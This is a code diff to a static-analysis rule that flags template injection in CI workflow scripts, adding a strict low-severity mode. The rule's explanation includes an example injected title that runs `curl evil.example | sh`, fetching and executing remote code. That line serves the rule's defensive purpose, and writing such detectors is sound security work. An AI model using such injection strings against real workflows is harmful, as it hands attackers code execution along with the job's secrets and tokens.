@@ -3,6 +3,7 @@ import { defineRule, type Report, safeFix, unsafeFix } from '../../core/rule.ts'
 import { runsInput } from '../../documents/action-scripts.ts'
 import type { Expression } from '../../documents/expression.ts'
 import { type ContextPath, yieldedPaths } from '../../documents/expression-paths.ts'
+import { openText } from '../../documents/open-contexts.ts'
 import { throughEnvironment } from '../../documents/script-fix.ts'
 import type { WorkflowExpression } from '../../documents/workflow-model.ts'
 import { shellLanguage } from '../../documents/workflow-shell.ts'
@@ -12,6 +13,7 @@ export default defineRule({
   id: 'workflow/template-injection',
   severity: 'critical',
   threat: 'access',
+  strictly: 'every text in a script that neither the workflow nor its form fixes (names of branches, inputs, outputs of steps), as low.',
   summary: 'Text that a stranger writes becomes part of a script',
   why: 'The runner puts the text into the script before any shell reads it: a title such as `"; curl evil.example | sh; "` is then a command, with the secrets and the token of the job.',
   instead: 'Give the value to the step in `env`, and read that variable in the script, in double quotes.',
@@ -55,22 +57,29 @@ jobs:
           echo "New issue: \${TITLE}"
 `,
   on: 'workflowExpression',
-  *check(found) {
+  *check(found, { strict }) {
     const { expression, step } = found
     if (!expression || !step || !isCode(found)) return
-    for (const { span, path, source } of untrustedParts(expression, found)) {
+    const strangers = untrustedParts(expression, found)
+    const becomes = `becomes part of the ${found.scalar === step.run ? 'script' : 'code'}`
+    for (const { span, path, source } of strangers) {
       const read = path.join('.')
       const origin = read === source ? '' : `, which holds ${source},`
       yield {
         at: { span: found.placeOf(span) },
         severity: runsWithoutSecrets(found) ? 'high' : 'critical',
-        message: `"${read}"${origin} is text of a stranger and becomes part of the ${found.scalar === step.run ? 'script' : 'code'}`,
+        message: `"${read}"${origin} is text of a stranger and ${becomes}`,
         fix: fixFor(found, path),
       }
     }
     for (const { span, path } of callerInputs(found, expression)) {
-      const message = `the input "${path[1] ?? ''}" becomes part of the ${found.scalar === step.run ? 'script' : 'code'}, and a caller may put text of a stranger into it`
+      const message = `the input "${path[1] ?? ''}" ${becomes}, and a caller may put text of a stranger into it`
       yield { at: { span: found.placeOf(span) }, severity: 'medium', message, fix: fixFor(found, path) }
+    }
+    for (const { span, path } of strict ? untrustedParts(expression, found, openText(found.workflow)) : []) {
+      if (strangers.some((known) => known.span.start === span.start)) continue
+      const message = `"${path.join('.')}" ${becomes}, and nothing here fixes its text`
+      yield { at: { span: found.placeOf(span) }, severity: 'low', message, fix: fixFor(found, path) }
     }
   },
 })
